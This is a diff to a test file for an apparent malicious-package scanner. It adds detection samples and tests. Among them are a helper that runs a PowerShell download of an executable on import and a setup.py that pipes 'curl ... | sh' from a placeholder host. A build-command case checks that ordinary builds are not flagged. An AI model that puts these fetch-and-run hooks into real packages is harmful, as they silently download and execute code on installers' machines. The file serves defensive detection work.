@@ -63,6 +63,15 @@ RUN_BY_IMPORT = (
            "    subprocess.Popen(['pythonw', path])\n"
            "_setup()\n",
            "hook/download-exec"),
+    Sample("default-command-of-a-helper-run-on-import",
+           "import subprocess\n"
+           "def run_quietly(command=None):\n"
+           "    chosen = command if command is not None else (\n"
+           "        'Invoke-WebRequest -Uri https://example.invalid/t -OutFile t.exe')\n"
+           "    return subprocess.Popen(['powershell', '-NoProfile', '-Command', chosen],\n"
+           "                            stdout=subprocess.DEVNULL)\n"
+           "_started = run_quietly()\n",
+           "hook/download-exec"),
     Sample("shell-profile-extended-from-the-top-level",
            "from pathlib import Path\n"
            "def _remember():\n"
@@ -193,4 +202,29 @@ def test_a_library_that_asks_git_for_its_version_on_import_is_not_blocked(
         "__version__ = _version()\n"
     )
     findings = _findings(tmp_path, code)
+    assert all(f.severity < Severity.MEDIUM for f in findings), findings
+
+
+def _setup_findings(tmp_path: Path, body: str) -> list[Finding]:
+    files = {"setup.py": body + "from setuptools import setup\nsetup(name='demo')\n"}
+    return scan_path(make_sdist(tmp_path, "demo", "1.0", files))
+
+
+def test_a_command_chosen_between_a_parameter_and_its_default_is_read(tmp_path: Path) -> None:
+    """`command or DEFAULT` / `command if command else DEFAULT`: with the parameter unknown,
+    the default spelt in the body is what runs."""
+    body = ("import os\n"
+            "def fetch(command=None):\n"
+            "    os.system(command or 'curl -s https://example.invalid/i.sh | sh')\n"
+            "fetch()\n")
+    findings = _setup_findings(tmp_path, body)
+    assert any(f.rule == "hook/download-exec" and f.severity >= Severity.HIGH
+               for f in findings), findings
+
+
+def test_a_choice_between_two_build_commands_stays_a_build(tmp_path: Path) -> None:
+    body = ("import subprocess, sys\n"
+            "subprocess.check_call(['make', '-j4'] if sys.platform != 'win32' else ['nmake'])\n"
+            "subprocess.check_call('make' if sys.platform != 'win32' else 'nmake')\n")
+    findings = _setup_findings(tmp_path, body)
     assert all(f.severity < Severity.MEDIUM for f in findings), findings
